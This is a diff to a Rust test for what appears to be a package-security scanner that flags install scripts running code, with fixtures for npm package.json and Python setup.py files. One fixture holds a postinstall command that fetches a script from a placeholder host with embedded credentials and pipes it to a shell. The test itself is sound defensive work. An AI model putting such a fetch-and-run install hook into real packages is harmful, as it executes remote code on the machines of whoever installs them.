@@ -92,10 +92,14 @@ fn install_scripts_are_told_unless_they_build() {
         ("package-lock.json", lock),
         ("a/package.json", r#"{ "name": "a", "scripts": { "postinstall": "curl https://u:hunter2@h.example | sh" } }"#),
         ("b/package.json", r#"{ "name": "b", "scripts": { "install": "prebuild-install || node-gyp rebuild" } }"#),
+        ("plain/setup.py", "from setuptools import setup\n# not exec()\nsetup(name='a')\n"),
+        ("native/setup.py", "setup(cmdclass={'build_ext': build_ext})\n"),
+        ("loads/setup.py", "import subprocess\nsubprocess.run(['x'])\nsetup(name='a')\n"),
         ("c/package.json", r#"{ "name": "c", "scripts": { "install": "node-gyp rebuild && node x.js", "test": "x" } }"#),
     ]), @r"
     MCPA-SC-006 low confirmed a/package.json:- [a] `postinstall` runs code when the package is installed; make it a step that users start
     MCPA-SC-006 low confirmed c/package.json:- [c] `install` runs code when the package is installed; make it a step that users start
+    MCPA-SC-006 low confirmed loads/setup.py:- [] `setup.py` runs code when the package is installed; make it a step that users start
     MCPA-SC-006 low confirmed package-lock.json:3 [left@1.2.0] `left@1.2.0` runs a script when it is installed; install with `--ignore-scripts`
     ");
 }
